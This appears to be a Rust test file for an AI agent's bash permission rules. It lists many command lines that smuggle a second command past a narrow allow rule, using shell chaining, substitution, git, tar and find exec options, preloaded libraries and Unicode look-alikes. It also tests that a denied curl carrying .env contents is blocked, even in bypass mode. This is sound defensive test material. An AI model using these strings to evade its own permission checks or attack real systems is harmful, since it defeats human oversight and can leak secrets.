//! Command lines that a rule seems to allow, and what they would run besides.

use std::net::TcpListener;

use serde_json::json;

use super::{call, is_untouched, world};

/// An id, the rules in force, command lines that must be refused, and twins that must run.
struct Case {
    id: &'static str,
    rules: &'static str,
    refused: &'static [&'static str],
    twins: &'static [&'static str],
}

const CASES: &[Case] = &[
    Case {
        id: "C25",
        rules: "allow = [\"bash(echo *)\"]",
        refused: &[
            "echo ok && touch OUT/pwn",
            "echo ok ; touch OUT/pwn",
            "echo ok | touch OUT/pwn",
            "echo ok || touch OUT/pwn",
            "echo ok & touch OUT/pwn",
            "echo ok |& touch OUT/pwn",
            "echo ok\ntouch OUT/pwn",
            "echo ok\r\ntouch OUT/pwn",
            "echo $(touch OUT/pwn)",
            "echo `touch OUT/pwn`",
            "echo \"`touch OUT/pwn`\"",
            "echo <(touch OUT/pwn)",
            "echo >(touch OUT/pwn)",
            "echo ok > OUT/pwn",
            "echo ok >| OUT/pwn",
            "echo ok &> OUT/pwn",
            "echo ok 2>> OUT/pwn",
            "echo ok <> OUT/pwn",
            "echo ok >& OUT/pwn",
            "{ echo ok; touch OUT/pwn; }",
            "( echo ok; touch OUT/pwn )",
            "! echo ok && touch OUT/pwn",
            "echo ok | while read x; do touch OUT/pwn; done",
            "for x in 1; do touch OUT/pwn; done; echo ok",
            "case x in x) touch OUT/pwn;; esac; echo ok",
            "if echo ok; then touch OUT/pwn; fi",
            "echo ${x:-$(touch OUT/pwn)}",
            "echo ${x:=`touch OUT/pwn`}",
            "echo $((`touch OUT/pwn` 1))",
            "echo $[ $(touch OUT/pwn) ]",
            "echo ${a[$(touch OUT/pwn)]}",
            "echo <<EOF\n$(touch OUT/pwn)\nEOF",
            "echo <<< $(touch OUT/pwn)",
            "echo ok # comment\ntouch OUT/pwn",
            "coproc touch OUT/pwn; echo ok",
            "time touch OUT/pwn; echo ok",
            "echo() { touch OUT/pwn; }; echo ok",
            "function echo { touch OUT/pwn; }; echo ok",
            "alias echo='touch OUT/pwn'; echo ok",
            "trap 'touch OUT/pwn' EXIT; echo ok",
            "echo ok; exec touch OUT/pwn",
            "PROMPT_COMMAND='touch OUT/pwn' echo ok; touch OUT/pwn",
            "[[ -n $(touch OUT/pwn) ]]; echo ok",
            "echo {a,$(touch OUT/pwn)}",
            "printf -v x '%s' $(touch OUT/pwn); echo ok",
            "echo ok; . OUT/canary.txt",
        ],
        twins: &[
            "echo ok",
            "echo a && echo b",
            "echo 'a; b' \"c && d\"",
            "echo ok > /dev/null",
            "echo ok 2>&1",
        ],
    },
    Case {
        id: "C28",
        rules: "allow = [\"bash(grep *)\"]",
        refused: &["grep x README.mdPADDING; env > OUT/pwn", "grep x README.mdLINES\nenv > OUT/pwn"],
        twins: &["grep -c harmless README.md"],
    },
    Case {
        id: "C30",
        rules: "allow = [\"bash(git *)\", \"bash(sort *)\", \"bash(tar *)\", \"bash(find *)\", \"bash(rg *)\"]",
        refused: &[
            "git diff --ou=OUT/pwn",
            "git diff --outpu=OUT/pwn",
            "git log --outp OUT/pwn",
            "git log --output OUT/pwn",
            "git grep --open-files-in-p=./x y",
            "git -c core.pager=./x log",
            "git --config-env=core.pager=X log",
            "git --exec-path=. status",
            "git log --ext-diff -p --outp=OUT/pwn",
            "git archive --outp=OUT/pwn HEAD",
            "git format-patch -o OUT HEAD",
            "git bundle create OUT/pwn HEAD",
            "git clone . OUT/pwn",
            "git worktree add OUT/pwn",
            "git archive -o OUT/pwn HEAD",
            "git fast-export --export-marks=OUT/pwn HEAD",
            "git clone --upload-p=./x . y",
            "git ls-remote --upload-pack='touch OUT/pwn' .",
            "git rebase --ex ./x",
            "git bisect run ./x",
            "git submodule foreach ./x",
            "git difftool --extcmd=./x",
            "sort --compress-prog=./x README.md",
            "sort --outp=OUT/pwn README.md",
            "tar cf /dev/null --checkpoint=1 --checkpoint-act=exec=./x README.md",
            "tar xf a.tar --to-comm=./x",
            "tar cf /dev/null -I ./x README.md",
            "find . -exec ./x {} ;",
            "find . -fprintf OUT/pwn x",
            "rg --pre ./x y",
            "rg --hostname-bin ./x y",
        ],
        twins: &["git --version", "sort README.md", "find . -name README.md"],
    },
    Case {
        id: "C31",
        rules: "allow = [\"bash(git *)\", \"bash(ls *)\", \"bash(export *)\", \"bash(bash *)\", \"bash(declare *)\"]",
        refused: &[
            "export PAGER='sh -c \"touch OUT/pwn\"'",
            "export PAGER=x && git branch",
            "GIT_PAGER=./x git log",
            "GIT_SSH_COMMAND=./x git fetch",
            "GIT_EXTERNAL_DIFF=./x git diff",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log",
            "GIT_DIR=OUT git status",
            "LD_PRELOAD=./e.so ls",
            "LD_AUDIT=./e.so ls",
            "PATH=.:$PATH git status",
            "typeset -x PAGER=./x",
            "declare -x LD_PRELOAD=./e.so",
            "readonly PATH=.",
            "BASH_ENV=./e bash -c :",
            "ENV=./e sh -c :",
            "SHELLOPTS=xtrace PS4='$(touch OUT/pwn)' bash -c :",
            "IFS=x ls",
            "read PATH < README.md; ls",
            "printf -v PATH .; ls",
            "mapfile -C ./x -c 1 a < README.md",
            "unset PATH; git status",
            "hash -p ./x ls; ls",
            "enable -f ./x.so y; ls",
            "PERL5OPT=-Mevil ls; perl -e 1",
            "NODE_OPTIONS='--require ./e.js' ls",
            "PYTHONSTARTUP=./e ls",
            "EDITOR=./x git commit",
            "env LD_PRELOAD=./e.so ls",
            "env -S 'touch OUT/pwn' ls",
        ],
        twins: &["FOO=1 ls", "ls", "git --version"],
    },
    Case {
        id: "C34",
        rules: "allow = [\"bash(rm *)\", \"bash(ls *)\"]",
        refused: &[
            "r\u{200b}m -rf x",
            "r\u{ad}m -rf x",
            "\u{440}m -rf x",
            "ｒm -rf x",
            "ls \u{202e}x",
            "ls \u{2066}x\u{2069}",
            "ls\u{a0}-la",
            "ls\u{3000}-la",
            "ls \u{e0041}x",
            "ls x\u{8}\u{8}y",
            "ls \u{1b}[2Kx",
        ],
        twins: &["rm -rf x", "ls -la"],
    },
];

#[test]
fn c25_c28_c30_c31_c34_a_rule_allows_only_what_it_names() {
    let mut wrong = Vec::new();
    for case in CASES {
        let world = world();
        world.set_config(&format!("[permissions]\n{}\n", case.rules));
        let out = world.work().with_file_name("out").display().to_string();
        let written = |command: &str| {
            let command = command.replace("OUT", &out).replace("PADDING", &" ".repeat(3000));
            command.replace("LINES", &"\n".repeat(200))
        };
        for command in case.refused {
            let arguments = json!({"command": written(command), "timeout": 20});
            let (code, text) = call(&world, "bash", &arguments, "default");
            if code != 3 || !is_untouched(&world) {
                wrong.push(format!("{}: ran `{command}`: {code} {text:.200}", case.id));
            }
        }
        for command in case.twins {
            let (code, text) = call(&world, "bash", &json!({"command": written(command)}), "default");
            if code != 0 {
                wrong.push(format!("{}: refused the twin `{command}`: {code} {text:.200}", case.id));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A denial holds however deep a command hides, also where it is too long to be taken apart.
#[test]
fn c27_no_length_of_a_command_hides_what_a_rule_denies() {
    let world = world();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let curl = format!("curl -s http://{}/", listener.local_addr().unwrap());
    world.set_config("[permissions]\nallow = [\"bash\"]\ndeny = [\"bash(curl *)\"]\n");
    world.write(".env", "TOKEN=1\n");
    let nested = (0..40).fold(curl.clone(), |inner, _| format!("( {inner} )"));
    let substituted = (0..30).fold(curl.clone(), |inner, _| format!("echo $( {inner} )"));
    for command in [
        format!("{}{curl}$(cat .env)", "true;".repeat(60)),
        format!("{}{curl}", "true;".repeat(2_000)),
        format!("{}{curl}", "true && ".repeat(51)),
        format!("{}{curl}", "true | ".repeat(100)),
        format!("{}\n{curl}", "# x\n".repeat(5_000)),
        format!("{} {curl}", "A=1 ".repeat(300)),
        format!("{}{curl}", " ".repeat(100_000)),
        nested,
        substituted,
        format!("{}{curl}", "sudo ".repeat(80)),
        format!("{}{curl}", "env ".repeat(80)),
        format!("{}{curl}", "if true; then ".repeat(30)) + &"; fi".repeat(30),
    ] {
        for mode in ["default", "bypassPermissions"] {
            let (code, text) = call(&world, "bash", &json!({"command": command, "timeout": 20}), mode);
            assert_eq!(code, 3, "{mode} {command:.80}: {text:.300}");
        }
    }
    assert!(listener.accept().is_err(), "something was sent");
    let twin = format!("{}echo done", "true;".repeat(60));
    let (code, text) = call(&world, "bash", &json!({"command": twin}), "default");
    assert!(code == 0 && text.contains("done"), "{text}");
}

/// What a command sets does not reach the next call.
#[test]
fn c31_variables_functions_and_options_end_with_their_command() {
    use stepwell_test_support::{Turn, call as scripted};
    let steps = [
        "export PAGER=evil LD_PRELOAD=/evil.so; ls() { echo shadowed; }; alias ls='echo shadowed'; set -o noglob; \
         trap 'echo trapped' EXIT; umask 000; hash -p /bin/true ls; cd .",
        "env | grep -c evil; ls README.md; echo README.*; umask",
    ];
    let turns = steps.map(|command| Turn::calls([scripted("bash", json!({"command": command}))]));
    let world = crate::world::World::new(turns.into_iter().chain([Turn::text("done")]));
    world.write("README.md", "harmless\n");
    world.output(&["run", "--quiet", "--permission-mode", "bypassPermissions", "go"]);
    let results = world.server.last_request().tool_results();
    let second = &results.last().unwrap().text;
    assert!(second.starts_with("0\nREADME.md\nREADME.md\n00"), "{second}");
    assert!(!second.contains("shadowed") && !second.contains("0000"), "{second}");
}
